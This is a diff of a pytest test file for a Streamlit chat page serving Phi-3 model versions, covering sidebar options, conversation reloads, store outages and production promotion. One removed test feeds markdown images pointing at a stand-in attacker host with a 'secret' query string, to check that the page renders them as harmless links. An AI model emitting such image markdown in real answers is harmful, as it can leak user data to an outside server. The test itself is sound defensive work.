@@ -1,21 +1,23 @@
-"""Chat: which version is talked to, what is sent, and what is shown of the answer."""
+"""Chat: which version or endpoint is talked to, its address, the sidebar, and what moves meanwhile."""
 
 from __future__ import annotations
+
+from dataclasses import replace
 
 import pytest
 import streamlit as st
 from streamlit.testing.v1 import AppTest
 
-from phi3core import chat, promotion, registry
+from pages.components import ui
+from phi3core import chat, conversations, promotion, registry
 from phi3core.build import MAX_TOKENS
 from phi3core.errors import StoreDown
 from phi3core.settings import Settings
 
 from .. import fakes
+from .chatting import WORDS, answers, ask, chat_version, live, put_into_box, settled
 from .conftest import Open, Register, links, said
 from .servers import FakePool, HeldEngine
-
-WORDS = ("The", " capital", " is", " Madrid", ".")
 
 
 @pytest.fixture
@@ -23,21 +25,6 @@ def engine(servers: FakePool) -> fakes.FakeEngine:
     engine = fakes.FakeEngine(WORDS)
     servers.engines = lambda ref: engine
     return engine
-
-
-def ask(at: AppTest, text: str) -> AppTest:
-    return at.chat_input(key="chat_input").set_value(text).run()
-
-
-def put_into_box(at: AppTest) -> str | None:
-    """What the page has just put into the message's box for a person to send, if anything."""
-    box = at.chat_input(key="chat_input").proto
-    return str(box.value) if box.set_value else None
-
-
-def answers(at: AppTest) -> list[str]:
-    """What the messages of the page say first, question and answer in turn."""
-    return [str(message.markdown[0].value) if message.markdown else "" for message in at.chat_message]
 
 
 def test_an_empty_registry_leads_to_the_build_page(open_page: Open) -> None:
@@ -142,100 +129,6 @@ def test_choosing_another_version_keeps_the_conversation_and_asks_that_one(
     assert engine.prompts[-1].endswith("<user>One<assistant>The capital is Madrid.<user>Two")
 
 
-# ---------------------------------------------------------------- an answer
-
-
-def test_an_answer_is_shown_with_its_figures_and_the_prompt_the_model_read(
-    open_page: Open, register: Register, engine: fakes.FakeEngine
-) -> None:
-    register()
-    at = open_page("chat")
-    engine.pause = 0.01
-    ask(at, "What is the capital of Spain?")
-    assert not at.exception
-    assert answers(at) == ["What is the capital of Spain?", "The capital is Madrid."]
-    figures = at.chat_message[1].caption[0].value
-    assert figures.startswith("phi3/1 · ")
-    assert "tokens/s" in figures
-    assert "first token" in figures
-    assert f"{len('<user>What is the capital of Spain?')} + 5 tokens" in figures
-    assert [code.value for code in at.code] == ["<user>What is the capital of Spain?"]
-    assert engine.asked[-1].temperature == 0.4  # the version's own, not the app's
-    assert engine.asked[-1].max_tokens == 50
-    assert not at.chat_input(key="chat_input").disabled
-
-
-def test_the_sidebar_reaches_the_engine(open_page: Open, register: Register, engine: fakes.FakeEngine) -> None:
-    register()
-    at = open_page("chat")
-    at.text_area(key="chat_system").set_value("Be brief.")
-    at.slider(key="chat_temperature_phi3/1").set_value(0.9)
-    at.slider(key="chat_top_p_phi3/1").set_value(0.5)
-    at.number_input(key="chat_max_tokens_phi3/1").set_value(3)
-    at.slider(key="chat_penalty_phi3/1").set_value(1.3)
-    at.number_input(key="chat_seed_phi3/1").set_value(7)
-    at.text_input(key="chat_stop_phi3/1").set_value("END, STOP")
-    ask(at, "Hello")
-    asked = engine.asked[-1]
-    assert (asked.temperature, asked.top_p, asked.max_tokens, asked.seed) == (0.9, 0.5, 3, 7)
-    assert asked.repetition_penalty == pytest.approx(1.3)
-    assert asked.stop == ("END", "STOP")
-    assert engine.prompts[-1] == "<system>Be brief.<user>Hello"
-    assert "Cut off at the longest answer" in said(at)
-
-
-def test_an_empty_message_is_refused_with_a_sentence(open_page: Open, register: Register, servers: FakePool) -> None:
-    register()
-    at = ask(open_page("chat"), "   ")
-    assert not at.exception
-    assert "The message is empty" in at.error[0].value
-    assert servers.opened == []
-
-
-def test_images_in_questions_and_answers_are_shown_as_links(
-    open_page: Open, register: Register, engine: fakes.FakeEngine
-) -> None:
-    engine.words = ("Look: ", "![cat]", "(http://evil.example/?q=secret)")
-    register()
-    at = ask(open_page("chat"), "See ![x](http://evil.example/mine)")
-    question, answer = answers(at)
-    assert "![" not in question + answer
-    assert "(http://evil.example/mine)" in question
-    assert "image: cat" in answer
-
-
-def test_a_server_that_dies_is_told_and_try_again_answers(
-    open_page: Open, register: Register, servers: FakePool, engine: fakes.FakeEngine
-) -> None:
-    servers.die_after = 2
-    register()
-    at = ask(open_page("chat"), "What is the capital of Spain?")
-    assert not at.exception
-    assert answers(at) == ["What is the capital of Spain?", "The capital"]
-    assert "died in mid-answer" in at.error[0].value
-    again = at.button(key="chat_again")
-    assert again.label == "Try again"
-    again.click().run()
-    assert answers(at) == ["What is the capital of Spain?", "The capital is Madrid."]
-    assert not at.error
-    assert at.button(key="chat_again").label == "Regenerate"
-
-
-def test_a_version_whose_model_cannot_be_loaded_says_why(
-    open_page: Open, register: Register, servers: FakePool
-) -> None:
-    class Broken(fakes.FakeEngine):
-        def render(self, messages: list[dict[str, str]]) -> str:
-            raise RuntimeError("its files are damaged")
-
-    servers.engines = lambda ref: Broken()
-    register()
-    at = ask(open_page("chat"), "Hello")
-    assert not at.exception
-    assert "its files are damaged" in at.error[0].value
-    assert not at.chat_input(key="chat_input").disabled
-
-
 # ---------------------------------------------------------------- conversations
 
 
@@ -265,10 +158,6 @@ def test_a_page_opened_in_mid_answer_follows_it_to_its_end(
     at = open_page("chat", c=talk.id)
     assert answers(at) == ["Hello", "The capital is Madrid."]
     assert not at.chat_input(key="chat_input").disabled
-
-
-def chat_version(settings: Settings):  # type: ignore[no-untyped-def]
-    return registry.resolve(settings, "phi3/1")
 
 
 @pytest.mark.parametrize(
@@ -398,7 +287,7 @@ def test_a_version_whose_defaults_are_out_of_range_is_talked_to_within_it(
     assert not at.exception
     assert not at.error
     assert at.number_input(key="chat_max_tokens_phi3/1").value == MAX_TOKENS
-    assert at.slider(key="chat_penalty_phi3/1").value == 2.0
+    assert at.slider(key="chat_repetition_penalty_phi3/1").value == 2.0
     assert at.slider(key="chat_top_p_phi3/1").value == pytest.approx(0.01)
     assert at.slider(key="chat_temperature_phi3/1").value == 2.0
     assert answers(ask(at, "Hello")) == ["Hello", "The capital is Madrid."]
@@ -415,14 +304,14 @@ def test_asking_again_takes_the_sidebar_as_it_is_now(
     at.text_area(key="chat_system").set_value("Old.")
     at.slider(key="chat_temperature_phi3/1").set_value(0.1)
     ask(at, "Hello")
-    chat._live[at.query_params["c"]].turns[-1].state = state  # type: ignore[assignment]
+    chat._live[at.query_params["c"]].path[-1].state = state  # type: ignore[assignment]
     at.run()
     at.text_area(key="chat_system").set_value("New.")
     at.slider(key="chat_temperature_phi3/1").set_value(1.5)
     at.number_input(key="chat_seed_phi3/1").set_value(7)
     again = at.button(key="chat_again")
     assert again.label == label
-    again.click().run()
+    settled(again.click().run())
     assert not at.exception
     assert answers(at) == ["Hello", "The capital is Madrid."]
     assert (engine.asked[-1].temperature, engine.asked[-1].seed) == (1.5, 7)
@@ -439,9 +328,9 @@ def reloaded(open_page: Open, register: Register, engine: fakes.FakeEngine) -> A
     at.slider(key="chat_temperature_phi3/1").set_value(0.9)
     at.slider(key="chat_top_p_phi3/1").set_value(0.5)
     at.number_input(key="chat_max_tokens_phi3/1").set_value(40)
-    at.slider(key="chat_penalty_phi3/1").set_value(1.3)
+    at.slider(key="chat_repetition_penalty_phi3/1").set_value(1.3)
     at.number_input(key="chat_seed_phi3/1").set_value(7)
-    at.text_input(key="chat_stop_phi3/1").set_value("END, STOP")
+    at.session_state["chat_stop_phi3/1"] = ["END", "a, b"]
     ask(at, "Two")
     address = at.query_params["c"]
     chat._live[address].settle()
@@ -457,7 +346,7 @@ def test_a_reload_has_the_last_turns_system_prompt_and_options_in_the_sidebar(
         assert reloaded.slider(key="chat_temperature_phi3/1").value == pytest.approx(0.9)
         assert reloaded.slider(key="chat_top_p_phi3/1").value == pytest.approx(0.5)
         assert reloaded.number_input(key="chat_max_tokens_phi3/1").value == 40
-        assert reloaded.slider(key="chat_penalty_phi3/1").value == pytest.approx(1.3)
+        assert reloaded.slider(key="chat_repetition_penalty_phi3/1").value == pytest.approx(1.3)
         reloaded.run()  # and they stay when the page runs again
     ask(reloaded, "Three")
     asked = engine.asked[-1]
@@ -470,9 +359,9 @@ def test_a_reload_has_the_last_turns_seed_and_stop_sequences_in_the_sidebar(
     reloaded: AppTest, engine: fakes.FakeEngine
 ) -> None:
     assert reloaded.number_input(key="chat_seed_phi3/1").value == 7
-    assert reloaded.text_input(key="chat_stop_phi3/1").value == "END, STOP"
+    assert reloaded.multiselect(key="chat_stop_phi3/1").value == ["END", "a, b"]
     ask(reloaded, "Three")
-    assert (engine.asked[-1].seed, engine.asked[-1].stop) == (7, ("END", "STOP"))
+    assert (engine.asked[-1].seed, engine.asked[-1].stop) == (7, ("END", "a, b"))
 
 
 # ---------------------------------------------------------------- a store that goes away
@@ -511,3 +400,53 @@ def test_a_message_sent_while_the_store_is_down_comes_back_into_its_box(
     at.run()
     assert len(at.chat_message) == 2
     assert put_into_box(at) is None  # it was asked: it does not come back once more
+
+
+# ---------------------------------------------------------------- what moves, and what waits
+
+
+def test_a_conversation_keeps_its_version_when_production_moves_until_it_is_told_to_follow(
+    open_page: Open, register: Register, settings: Settings, servers: FakePool, engine: fakes.FakeEngine
+) -> None:
+    register()
+    register()
+    promotion.promote(settings, "phi3/1", "Production")
+    at = ask(open_page("chat"), "One")
+    promotion.promote(settings, "phi3/2", "Production")
+    ui.forget()
+    ask(at, "Two")
+    assert live(at).path[-1].ref == "phi3/1"
+    assert "is now **phi3/2**; this conversation talks to phi3/1" in said(at)
+    at.button(key="chat_follow").click().run()
+    assert "is now **phi3/2**" not in said(at)
+    ask(at, "Three")
+    assert live(at).path[-1].ref == "phi3/2"
+    assert "is now" not in said(at)
+
+
+def test_what_the_store_has_not_taken_is_said_quietly(
+    open_page: Open, register: Register, engine: fakes.FakeEngine, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    register()
+    at = open_page("chat")
+    assert "for the store" not in said(at)
+    monkeypatch.setattr(conversations, "pending", lambda settings: 2)
+    monkeypatch.setattr(conversations, "trouble", lambda settings: "The store does not answer.")
+    at.run()
+    assert "2 changes wait for the store" in said(at)
+    assert not at.error
+    assert not at.warning
+
+
+def test_with_tracing_off_it_is_said_that_nothing_is_saved(
+    open_page: Open,
+    register: Register,
+    settings: Settings,
+    engine: fakes.FakeEngine,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    register()
+    monkeypatch.setattr(ui, "config", lambda: replace(settings, tracing=False))
+    at = ask(open_page("chat"), "Hello")
+    assert "this conversation is not saved" in said(at)
+    assert answers(at) == ["Hello", "The capital is Madrid."]
